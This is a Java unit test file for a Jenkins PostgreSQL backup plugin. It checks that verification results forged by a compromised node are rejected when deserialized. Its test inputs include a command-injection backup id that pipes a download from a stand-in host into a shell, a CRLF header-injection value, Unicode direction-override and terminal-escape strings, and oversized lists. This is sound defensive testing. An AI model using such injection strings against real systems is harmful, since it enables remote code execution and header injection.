package io.jenkins.plugins.postgresqlbackup.result;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.postgresqlbackup.engine.operation.VerificationLevel;
import io.jenkins.plugins.postgresqlbackup.engine.operation.VerificationResult;
import io.jenkins.plugins.postgresqlbackup.engine.repository.BackupId;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InvalidObjectException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.lang.reflect.Field;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

class ReceivedTest {
    private static VerificationInfo info(List<String> problems) {
        return new VerificationInfo(
                new VerificationResult(
                        new BackupId("20261122T121838Z-7f3k2m"),
                        VerificationLevel.CONTENT,
                        problems,
                        List.of(),
                        1,
                        2,
                        3,
                        4,
                        Duration.ofSeconds(1)),
                "shop");
    }

    /** As a node that has been taken over would send it. */
    private static VerificationInfo forged(String field, Object value) throws Exception {
        VerificationInfo info = info(List.of());
        Field its = VerificationInfo.class.getDeclaredField(field);
        its.setAccessible(true);
        its.set(info, value);
        return info;
    }

    private static VerificationInfo sent(VerificationInfo info) throws IOException, ClassNotFoundException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(info);
        }
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()))) {
            return (VerificationInfo) in.readObject();
        }
    }

    @Test
    void whatAnHonestNodeSendsArrives() throws Exception {
        VerificationInfo info = sent(info(List.of("The table a is gone.")));
        assertThat(info.getBackup()).isEqualTo("20261122T121838Z-7f3k2m");
        assertThat(info.getProblems()).containsExactly("The table a is gone.");
    }

    @ParameterizedTest
    @NullSource
    @ValueSource(strings = {"", "latest", "20261122T121838Z-7f3k2m'; curl evil | sh; '", "20261122T121838Z-7f3k2m\n"})
    void anIdThatIsNoneIsRefused(String id) throws Exception {
        VerificationInfo info = forged("backup", id);
        assertThatThrownBy(() -> sent(info)).isInstanceOf(InvalidObjectException.class);
    }

    @ParameterizedTest
    @NullSource
    @ValueSource(strings = {"shop\r\nBcc: somebody@example.com", "\u202egpj", "\u001b[2J"})
    void aNameThatIsMoreThanOneLineIsRefused(String name) throws Exception {
        VerificationInfo info = forged("database", name);
        assertThatThrownBy(() -> sent(info)).isInstanceOf(InvalidObjectException.class);
    }

    @Test
    void aListWithoutEndOrOfSomethingElseIsRefused() throws Exception {
        VerificationInfo endless = forged("problems", new ArrayList<>(Collections.nCopies(1_001, "x")));
        assertThatThrownBy(() -> sent(endless)).isInstanceOf(InvalidObjectException.class);
        VerificationInfo other = forged("problems", new ArrayList<>(List.of(1, 2)));
        assertThatThrownBy(() -> sent(other)).isInstanceOf(InvalidObjectException.class);
        VerificationInfo none = forged("problems", new ArrayList<>(Arrays.asList("x", null)));
        assertThatThrownBy(() -> sent(none)).isInstanceOf(InvalidObjectException.class);
    }

    @Test
    void namesFromADatabaseBecomeOneLineAndLongListsSayWhatIsLeftOut() {
        VerificationInfo info = info(new ArrayList<>(Collections.nCopies(5_000, "table a\nFinished: SUCCESS")));
        assertThat(info.getProblems()).hasSize(1_000).endsWith("… and 4001 more.");
        assertThat(info.getProblems().get(0)).isEqualTo("table a Finished: SUCCESS");
        assertThatCode(() -> sent(info)).doesNotThrowAnyException();
    }

    @Test
    void aTextThatGoesOnForEverIsCutAndArrives() throws Exception {
        VerificationInfo info = sent(info(List.of("x".repeat(1_000_000))));
        assertThat(info.getProblems().get(0)).hasSize(2_000).endsWith("…");
    }
}
